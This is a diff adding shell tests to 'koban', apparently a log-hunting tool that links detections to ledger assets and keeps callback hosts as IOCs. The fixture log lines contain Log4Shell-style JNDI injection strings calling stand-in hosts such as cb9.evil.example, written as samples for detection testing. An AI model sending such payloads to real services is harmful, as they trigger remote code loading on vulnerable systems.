@@ -62,6 +62,52 @@ check '[ $? = 0 ]' "no hits: exit 0"
 "$KOBAN" hunt --no-iocs no/such/file >/dev/null 2>err
 check '[ $? = 2 ] && grep -q "no/such/file" err' "a missing file: exit 2, named"
 
+# with a store: hits kept and linked to the ledger's assets, callbacks kept as IOCs
+export KOBAN_DB=$work/link.db
+cat >ledger.csv <<'CSV'
+name,category,interfaces
+web-01.corp.example,external,service 10.9.0.5:443/tcp
+db-01.corp.example,internal,
+gw,internal,
+CSV
+"$KOBAN" -q ledger import ledger.csv
+mkdir -p link/web-01 link/central
+a0='192.0.2.10 - - [19/Nov/2026:02:14:07 +0000] "GET / HTTP/1.1" 200 512 "-" "${jndi:ldap://cb9.evil.example:1389/a}"'
+printf '%s\n' "$a0" >link/web-01/access.log
+printf '<13>Nov 19 02:14:07 db-01 app: ${jndi:dns://cb8.evil.example/x}\n' >link/central/messages
+printf '{"server_addr":"10.9.0.5","msg":"${jndi:rmi://cb7.evil.example/x}"}\n' >link/central/app.json
+printf '%s\n' "$a0" >link/central/gw.log.1
+printf '%s\n' "$a0" >link/central/unknown.log
+"$KOBAN" --json hunt link >link.json 2>err
+rc=$?
+check '[ $rc = 1 ]' "linking: exit 1 (got $rc): $(cat err)"
+asset_of() { grep "\"file\":\"link/$1\"" link.json | grep -o '"asset":"[^"]*"' | head -1; }
+host_of() { grep "\"file\":\"link/$1\"" link.json | grep -o '"host":"[^"]*"' | head -1; }
+check '[ "$(asset_of web-01/access.log)" = "\"asset\":\"web-01.corp.example\"" ]' "a directory named by the host's first label: $(asset_of web-01/access.log)"
+check '[ "$(asset_of central/messages)" = "\"asset\":\"db-01.corp.example\"" ]' "the syslog host name: $(asset_of central/messages)"
+check '[ "$(host_of central/messages)" = "\"host\":\"db-01\"" ]' "the host name in --json: $(host_of central/messages)"
+check '[ "$(asset_of central/app.json)" = "\"asset\":\"web-01.corp.example\"" ]' "the server address of an interface: $(asset_of central/app.json)"
+check '[ "$(asset_of central/gw.log.1)" = "\"asset\":\"gw\"" ]' "a file name without its extensions: $(asset_of central/gw.log.1)"
+check '[ "$(asset_of central/unknown.log)" = "\"asset\":\"\"" ]' "no asset when nothing names one: $(asset_of central/unknown.log)"
+n=$(sqlite3 "$KOBAN_DB" "select count(*) from hunt_hit")
+check '[ "$n" = 5 ]' "five hits kept (got $n)"
+n=$(sqlite3 "$KOBAN_DB" "select count(*) from ioc where source='koban hunt' and value like 'cb_.evil.example'")
+check '[ "$n" = 3 ]' "three callback hosts kept as IOCs (got $n)"
+"$KOBAN" --json hunt link >link2.json 2>err
+n=$(sqlite3 "$KOBAN_DB" "select count(*) from hunt_hit")
+check '[ "$n" = 5 ]' "hunting again updates the kept hits, adds none (got $n)"
+check '! grep -q "\"kind\":\"ioc\"" link2.json' "a kept callback does not echo as an IOC hit inside its own payload"
+"$KOBAN" --json hunt --asset db-01.corp.example link/central/unknown.log >asset.json 2>err
+check 'grep -q "\"asset\":\"db-01.corp.example\"" asset.json' "--asset links every hit"
+"$KOBAN" --csv hunt --stored --asset db-01.corp.example >stored.csv 2>err
+rc=$?
+check '[ $rc = 1 ] && [ "$(grep -c "^link/central/" stored.csv)" = 2 ]' "--stored lists the kept hits of an asset ($rc): $(cat stored.csv err)"
+"$KOBAN" hunt --asset no-such-host link/central/unknown.log >/dev/null 2>err
+check '[ $? = 2 ] && grep -q "no-such-host" err' "an unknown --asset: exit 2, named"
+mkdir -p link2 && cp link/web-01/access.log link2/new.log
+"$KOBAN" -q hunt --no-store --no-iocs link2 >/dev/null 2>&1
+check '[ "$(sqlite3 "$KOBAN_DB" "select count(*) from hunt_hit")" = 5 ]' "--no-store keeps nothing"
+
 # acme: attacks, the scanner and the success sign apart; traps silent
 export KOBAN_DB=$work/acme.db
 "$KOBAN" -q iocs import "$SRC"/examples/acme/iocs/* 2>/dev/null
